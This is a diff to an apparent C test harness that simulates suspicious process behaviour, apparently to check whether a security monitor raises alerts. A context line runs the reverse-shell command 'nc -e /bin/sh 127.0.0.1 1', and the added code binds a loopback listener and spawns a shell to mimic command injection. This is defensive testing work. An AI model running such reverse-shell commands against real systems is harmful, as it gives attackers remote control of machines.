@@ -176,6 +176,19 @@ int main(int argc, char** argv) {
     char* args[] = {"nc", "-e", "/bin/sh", "127.0.0.1", "1", NULL};
     return report(run(arg, args), "nc -e /bin/sh 127.0.0.1 1");
   }
+  if (!strcmp(a, "listener-shell") || !strcmp(a, "plain-shell")) {
+    // A program with no server's name that listens on 127.0.0.1 (listener-shell) starts a shell,
+    // as command injection into any network service does; plain-shell does the same without
+    // listening (no alert).
+    if (!strcmp(a, "listener-shell")) {
+      int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+      struct sockaddr_in sa = {.sin_family = AF_INET};
+      sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+      if (bind(l, (struct sockaddr*)&sa, sizeof sa) || listen(l, 1)) return report(-1, "listen on 127.0.0.1");
+    }
+    char* args[] = {"sh", "-c", "true", NULL};
+    return report(run("/bin/sh", args), "fork + exec /bin/sh -c true");
+  }
   fprintf(stderr, "unknown attack %s\n", a);
   return 2;
 }
